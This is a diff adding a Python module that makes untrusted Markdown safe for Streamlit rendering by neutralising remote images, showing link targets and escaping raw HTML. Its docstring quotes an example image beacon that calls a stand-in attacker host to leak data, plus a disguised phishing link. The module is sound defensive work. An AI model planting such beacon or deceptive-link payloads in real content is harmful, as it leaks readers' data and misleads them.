@@ -1,0 +1,79 @@
+"""Untrusted text (answers, quoted passages, titles, channel names) made safe for `st.markdown`.
+
+Documents and Slack messages are written by anyone who can upload or post. Rendered as Markdown as they are, a
+passage with `![x](http://attacker/beacon.png?leak=…)` makes every reader's browser fetch the attacker's URL,
+and `[Reset your password](http://evil.example)` hides where a link goes. So untrusted text keeps only an
+allow-list of Markdown — emphasis, lists, headings, code — and everything that could load or hide a remote
+resource is turned into visible text:
+
+- images become `[image: alt — host]` (never fetched);
+- links become `label (url)`, so the real address is on screen (a bare http(s) URL stays clickable as itself);
+- raw HTML and autolinks (`<…>`), link brackets and entity tricks are escaped and show as typed.
+
+Escaping is character-local, so streamed pieces can be escaped one by one (`escape_markdown`) and the final
+text rendered with `safe_markdown`.
+"""
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable, Iterator
+from urllib.parse import urlsplit
+
+# Markdown punctuation that can start a link, image, raw HTML, autolink, entity or reference definition.
+# Emphasis (*, _), list markers, headings and code keep their meaning (the allow-list).
+_ESCAPE = re.compile(r"([\\\[\]()<>!&])")
+_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{0,2000})>?(?:\s+\"[^\"\n]*\")?\s*\)")
+_LINK = re.compile(r"\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{0,2000})>?(?:\s+\"[^\"\n]*\")?\s*\)")
+_REF_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\[[^\]\n]{0,200}\]")
+
+
+def host_of(url: str) -> str:
+    """The host a URL really points at ('' when it has none, e.g. javascript: or a relative path)."""
+    try:
+        parts = urlsplit(url.strip())
+    except ValueError:
+        return ""
+    return (parts.hostname or "").lower()
+
+
+def escape_markdown(text: str) -> str:
+    """Every character that could open a link, image, HTML tag, autolink or entity, backslash-escaped."""
+    return _ESCAPE.sub(r"\\\1", text or "")
+
+
+def _image_text(m: re.Match) -> str:
+    alt, url = m.group(1).strip(), m.group(2)
+    host = host_of(url)
+    return f"\x00image: {alt or 'no description'}{' — ' + host if host else ''}\x01"
+
+
+def _link_text(m: re.Match) -> str:
+    label, url = m.group(1).strip(), m.group(2).strip()
+    if urlsplit(url).scheme.lower() in ("http", "https") and host_of(url):
+        return f"{label} ({url})" if label and label != url else url
+    return f"{label} (link removed: {url[:80]})" if url else label
+
+
+def safe_markdown(text: str | None) -> str:
+    """Allow-listed Markdown for untrusted text: no remote images, no raw HTML, every link showing its host."""
+    text = text or ""
+    text = _IMAGE.sub(_image_text, text)
+    text = _REF_IMAGE.sub(lambda m: f"\x00image: {m.group(1).strip() or 'no description'}\x01", text)
+    text = _LINK.sub(_link_text, text)
+    text = escape_markdown(text)
+    # the image placeholders' brackets are our own: shown as literal, escaped brackets
+    return text.replace("\x00", "\\[").replace("\x01", "\\]")
+
+
+def safe_stream(pieces: Iterable[str]) -> Iterator[str]:
+    """Streamed answer pieces, escaped one by one (links show as typed until the final render)."""
+    for piece in pieces:
+        yield escape_markdown(piece)
+
+
+def safe_link(label: str, url: str | None) -> str | None:
+    """A Markdown link for a citation URL we display ourselves: only http(s), with the real host in the label."""
+    if not url or urlsplit(url.strip()).scheme.lower() not in ("http", "https") or not host_of(url):
+        return None
+    clean = url.strip().replace(")", "%29").replace("(", "%28").replace(" ", "%20")
+    return f"[{escape_markdown(label)} ↗ {escape_markdown(host_of(url))}]({clean})"
